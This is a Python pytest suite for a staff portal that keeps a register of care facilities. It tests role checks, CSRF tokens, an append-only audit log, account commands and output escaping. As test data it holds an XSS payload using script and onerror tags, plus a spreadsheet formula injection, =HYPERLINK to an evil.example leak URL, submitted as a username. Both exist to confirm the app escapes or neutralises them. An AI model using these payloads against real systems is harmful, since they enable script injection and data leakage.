"""Issue 15: roles on every staff route, CSRF on every form, the audit log (a row for each
action, append-only, CSV neutralised), the account commands, the correction form, and a
hostile register row escaped on every page, map, API answer and export."""

import csv
import hashlib
import io
import json
import re
from pathlib import Path

import pytest
from sqlalchemy import text
from sqlalchemy.exc import DBAPIError
from sqlmodel import select

from portal.core import db
from portal.models import AuditEvent, Facility, StaffUser
from tests.conftest import PLANS, csrf_token
from tests.test_staff_registers import (
    apply_register,
    decisions_of,
    facility_named,
    preview_register,
    upload_plan,
)

GAZETTEER = Path(__file__).resolve().parents[1] / "data" / "gazetteer" / "gazetteer.csv"
PASSWORD = "correct horse battery staple"
HOSTILE = "<script>alert('x')</script>\"><img src=x onerror=alert(1)>"


def add_user(app, username: str, role: str, password: str = PASSWORD) -> None:
    with app.app_context(), db.transaction() as session:
        user = StaffUser(username=username, password_hash="", role=role)
        user.set_password(password)
        session.add(user)


def log_in(client, username: str, password: str = PASSWORD):
    return client.post(
        "/staff/login",
        data={
            "csrf_token": csrf_token(client, "/staff/login"),
            "username": username,
            "password": password,
        },
    )


def staff_rules(app):
    """Every route under /staff except the login form, with sample arguments."""
    for rule in app.url_map.iter_rules():
        if not rule.rule.startswith("/staff") or rule.endpoint == "staff.login":
            continue
        args = {name: (1 if "id" in name else "x") for name in rule.arguments}
        if rule.endpoint == "staff.template_file":
            args["name"] = "project_list_template.csv"
        with app.test_request_context():
            from flask import url_for

            url = url_for(rule.endpoint, **args)
        yield rule, url


def test_every_staff_route_refuses_anonymous_users(app, client):
    token = csrf_token(client, "/staff/login")  # a valid token: refused for the login, not CSRF
    rules = list(staff_rules(app))
    assert len(rules) >= 19
    for rule, url in rules:
        for method in {"GET", "POST"} & rule.methods:
            response = client.open(url, method=method, data={"csrf_token": token})
            assert response.status_code == 302, (rule.endpoint, method, response.status_code)
            assert "/staff/login" in response.headers["Location"], rule.endpoint


def test_editors_are_refused_on_admin_routes_and_admins_are_not(app, client):
    admin_only = {
        r.endpoint
        for r in app.url_map.iter_rules()
        if getattr(app.view_functions[r.endpoint], "staff_role", None) == "admin"
    }
    assert admin_only == {"accounts.index", "accounts.create", "accounts.change"}
    add_user(app, "editor1", "editor")
    add_user(app, "admin1", "admin")
    log_in(client, "editor1")
    token = csrf_token(client, "/staff/")
    for rule, url in staff_rules(app):
        for method in {"GET", "POST"} & rule.methods if rule.endpoint in admin_only else ():
            response = client.open(url, method=method, data={"csrf_token": token})
            assert response.status_code == 403, (rule.endpoint, method)
    assert "/staff/accounts/" not in client.get("/staff/").get_data(as_text=True)
    client.post("/staff/logout", data={"csrf_token": token})
    log_in(client, "admin1")
    assert client.get("/staff/accounts/").status_code == 200


def test_every_staff_form_refuses_a_post_without_csrf_token(app, client):
    add_user(app, "admin1", "admin")
    log_in(client, "admin1")
    posts = [(r, u) for r, u in staff_rules(app) if "POST" in r.methods]
    assert len(posts) >= 8
    for rule, url in posts:
        for data in ({"action": "deactivate"}, {"action": "deactivate", "csrf_token": "forged"}):
            response = client.post(url, data=data)
            assert response.status_code == 400, rule.endpoint
    anonymous = app.test_client()
    assert (
        anonymous.post(
            "/staff/login", data={"username": "admin1", "password": PASSWORD}
        ).status_code
        == 400
    )


def test_admins_manage_accounts_and_every_change_is_audited(app, client):
    add_user(app, "admin1", "admin")
    log_in(client, "admin1")
    token = csrf_token(client, "/staff/accounts/")
    short = client.post(
        "/staff/accounts/",
        data={"csrf_token": token, "username": "e2", "password": "short", "role": "editor"},
    )
    assert short.status_code == 400 and "12" in short.get_data(as_text=True)
    made = client.post(
        "/staff/accounts/",
        data={"csrf_token": token, "username": "e2", "password": PASSWORD, "role": "editor"},
    )
    assert made.status_code == 302
    with app.app_context(), db.transaction() as session:
        e2 = session.exec(select(StaffUser).where(StaffUser.username == "e2")).one()
    client.post(
        f"/staff/accounts/{e2.id}", data={"csrf_token": token, "action": "role", "role": "admin"}
    )
    client.post(f"/staff/accounts/{e2.id}", data={"csrf_token": token, "action": "deactivate"})
    other = app.test_client()
    assert log_in(other, "e2").status_code == 401  # deactivated
    with app.app_context(), db.transaction() as session:
        e2 = session.get(StaffUser, e2.id)
        events = session.exec(select(AuditEvent).where(AuditEvent.target == "e2")).all()
    assert e2.role == "admin" and not e2.active
    assert [e.action for e in events] == [
        "account_created",
        "account_changed",
        "account_changed",
        "login_failed",
    ][: len(events)]
    assert [e.detail.get("action") for e in events[1:3]] == ["role", "deactivate"]


def test_the_audit_log_has_a_row_for_every_action_and_refuses_changes(app, staff):
    log_in(app.test_client(), "clerk", "wrong password")
    upload_plan(staff)
    facility = facility_named(app, "青田县养老中心")
    token = csrf_token(staff, f"/staff/facilities/{facility.id}/edit")
    staff.post(
        f"/staff/facilities/{facility.id}/edit",
        data={
            "csrf_token": token,
            "source": "区民政局 2026-10 名录",
            "effective": "2026-10",
            "phone": "0578-1234567",
            "status": "operating",
        },
    )
    html = preview_register(staff).get_data(as_text=True)
    apply_register(staff, html, decisions_of(html))
    with app.app_context(), db.transaction() as session:
        events = session.exec(select(AuditEvent).order_by(AuditEvent.id)).all()
    actions = [e.action for e in events]
    for wanted in (
        "login",
        "login_failed",
        "upload",
        "preview",
        "apply",
        "correction",
        "register_preview",
        "register_apply",
    ):
        assert wanted in actions, wanted
    upload = next(e for e in events if e.action == "upload")
    data = (PLANS / "001_4999b758cfac438e.txt").read_bytes()
    assert upload.target == "001_4999b758cfac438e.txt"
    assert upload.detail == {"size": len(data), "sha256": hashlib.sha256(data).hexdigest()}
    correction = next(e for e in events if e.action == "correction")
    assert correction.detail["fields"]["phone"] == [None, "0578-1234567"]
    assert correction.detail["fields"]["status"] == ["under_construction", "operating"]
    with app.app_context():
        for statement in ("UPDATE auditevent SET \"user\" = 'x'", "DELETE FROM auditevent"):
            with pytest.raises(DBAPIError, match="append-only"), db.engine().begin() as connection:
                connection.execute(text(statement))
        with db.transaction() as session:
            assert len(session.exec(select(AuditEvent)).all()) == len(events)
    page = staff.get("/staff/audit/?action=correction").get_data(as_text=True)
    assert "0578-1234567" in page and "login_failed" not in page.split("<tbody>")[1]


def test_the_audit_csv_neutralises_formulas_and_has_a_bom(app, staff):
    log_in(app.test_client(), '=HYPERLINK("http://evil.example/?leak","x")', "nope")
    response = staff.get("/staff/audit/audit.csv")
    body = response.get_data(as_text=True)
    assert response.mimetype == "text/csv" and body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows[0] == ["id", "at", "user", "action", "target", "address", "detail"]
    users = [row[2] for row in rows[1:]]
    assert '\'=HYPERLINK("http://evil.example/?leak","x")' in users
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)


def test_a_hostile_register_row_is_escaped_on_every_page_map_api_and_export(app, staff):
    upload_plan(staff)
    html = preview_register(staff).get_data(as_text=True)
    assert HOSTILE not in html and "&lt;script&gt;alert(" in html
    apply_register(staff, html, decisions_of(html))  # the hostile row becomes a facility
    hostile = facility_named(app, HOSTILE)
    assert hostile.location_text.startswith("=HYPERLINK")  # kept as text, never run
    pages = [
        f"/facilities/{hostile.id}",
        f"/facilities/{hostile.id}?lang=en",
        f"/staff/facilities/{hostile.id}/edit",
        "/staff/facilities?q=script",
        "/staff/worklist/?list=contact&q=script",
        "/staff/audit/",
    ]
    for url in pages:
        body = staff.get(url).get_data(as_text=True)
        assert "<script>alert" not in body and "<img src=x" not in body, url
    assert "&lt;script&gt;" in staff.get(f"/facilities/{hostile.id}").get_data(as_text=True)
    if hostile.lat is not None:
        document = staff.get(f"/facilities/{hostile.id}/map").get_data(as_text=True)
        assert "<script>alert" not in document and "<img src=x" not in document
    api = staff.get("/api/v1/facilities?city=331100&per_page=100&q=alert")
    body = api.get_data(as_text=True)
    assert "<script>" not in body and "<img" not in body
    assert "\\u003cscript\\u003e" in body  # spelt safely, read back unchanged:
    assert HOSTILE in [item["name"] for item in json.loads(body)["results"]]
    export = staff.get("/staff/audit/audit.csv").get_data(as_text=True)
    assert not re.search(r"(^|,)[=+@-]", export.split("\n", 1)[1], re.MULTILINE)


def test_the_correction_form_checks_values_and_geocodes_with_its_precision(app, staff):
    upload_plan(staff)
    facility = facility_named(app, "莲都区峰源乡居家养老服务中心")
    url = f"/staff/facilities/{facility.id}/edit"
    token = csrf_token(staff, url)
    bad = staff.post(
        url, data={"csrf_token": token, "source": "", "phone": "call me", "effective": "2024-13"}
    )
    body = bad.get_data(as_text=True)
    assert bad.status_code == 400
    assert "请注明来源" in body and "只能包含数字" in body and "2024-09" in body
    ok = staff.post(
        url,
        data={
            "csrf_token": token,
            "source": "区民政局 2026-10 名录",
            "effective": "2024-09",
            "status": "operating",
            "address": "丽水市莲都区紫金街道样例路3号",
            "geocode": "1",
        },
    )
    assert ok.status_code == 302
    facility = facility_named(app, "莲都区峰源乡居家养老服务中心")
    # data/gazetteer/gazetteer.csv: 紫金街道 (331102001) has no point; 莲都区 (331102) has one.
    with open(GAZETTEER, encoding="utf-8") as handle:
        rows = {r["code"]: r for r in csv.DictReader(handle)}
    assert rows["331102001"]["lat"] == ""
    assert facility.precision == "county"
    assert (facility.lat, facility.lon) == pytest.approx(
        (float(rows["331102"]["lat"]), float(rows["331102"]["lon"])), abs=1e-5
    )
    page = staff.get(f"/facilities/{facility.id}").get_data(as_text=True)
    assert "区民政局 2026-10 名录：已开业" in page and "(2024-09)" in page
    exact = staff.post(
        url,
        data={
            "csrf_token": token,
            "source": "现场核实 2026-11",
            "coordinates": "28.4517, 119.9227",
        },
    )
    assert exact.status_code == 302
    facility = facility_named(app, "莲都区峰源乡居家养老服务中心")
    assert facility.precision == "exact" and facility.lat == pytest.approx(28.4517)


def test_account_commands_have_no_default_password_and_are_audited(app, runner):
    made = runner.invoke(
        args=["create-staff", "boss", "--role", "admin"], input=f"{PASSWORD}\n{PASSWORD}\n"
    )
    assert made.exit_code == 0, made.output
    again = runner.invoke(args=["create-staff", "boss"], input=f"{PASSWORD}\n{PASSWORD}\n")
    assert again.exit_code != 0 and "set-password" in again.output
    weak = runner.invoke(args=["create-staff", "weak"], input="short\nshort\n")
    assert weak.exit_code != 0
    assert (
        runner.invoke(
            args=["set-password", "boss"], input="another long password\nanother long password\n"
        ).exit_code
        == 0
    )
    assert runner.invoke(args=["deactivate", "boss"]).exit_code == 0
    assert runner.invoke(args=["deactivate", "nobody"]).exit_code != 0
    with app.app_context(), db.transaction() as session:
        boss = session.exec(select(StaffUser).where(StaffUser.username == "boss")).one()
        assert boss.role == "admin" and not boss.active
        assert boss.check_password("another long password")
        actions = [e.action for e in session.exec(select(AuditEvent).order_by(AuditEvent.id))]
        assert session.exec(select(StaffUser).where(StaffUser.username == "weak")).first() is None
    assert actions == ["account_created", "account_changed", "account_changed"]


def test_the_dashboard_counts_the_worklist(app, staff):
    upload_plan(staff)
    with app.app_context(), db.transaction() as session:
        facilities = session.exec(select(Facility).where(Facility.withdrawn_at.is_(None))).all()
    page = staff.get("/staff/").get_data(as_text=True)
    # No facility has a phone yet (plans give none): every one is on the contact list.
    assert re.search(rf"缺少地址或电话的设施</a>: <strong>{len(facilities)}</strong>", page)
    overdue = [f for f in facilities if f.is_project and f.period_end and f.period_end < 2026]
    listed = staff.get("/staff/worklist/?list=overdue").get_data(as_text=True)
    assert f"({len(overdue)})" in listed


def test_a_database_made_by_create_all_refuses_audit_changes_too(tmp_path):
    from sqlalchemy import create_engine
    from sqlmodel import SQLModel

    engine = create_engine(f"sqlite:///{tmp_path / 'made.sqlite'}")
    SQLModel.metadata.create_all(engine)
    with engine.begin() as connection:
        connection.execute(
            text(
                "INSERT INTO auditevent (at, user, action, target, detail) "
                "VALUES (CURRENT_TIMESTAMP, 'a', 'login', '', '{}')"
            )
        )
    for statement in ("UPDATE auditevent SET action = 'x'", "DELETE FROM auditevent"):
        with pytest.raises(DBAPIError, match="append-only"), engine.begin() as connection:
            connection.execute(text(statement))
    engine.dispose()
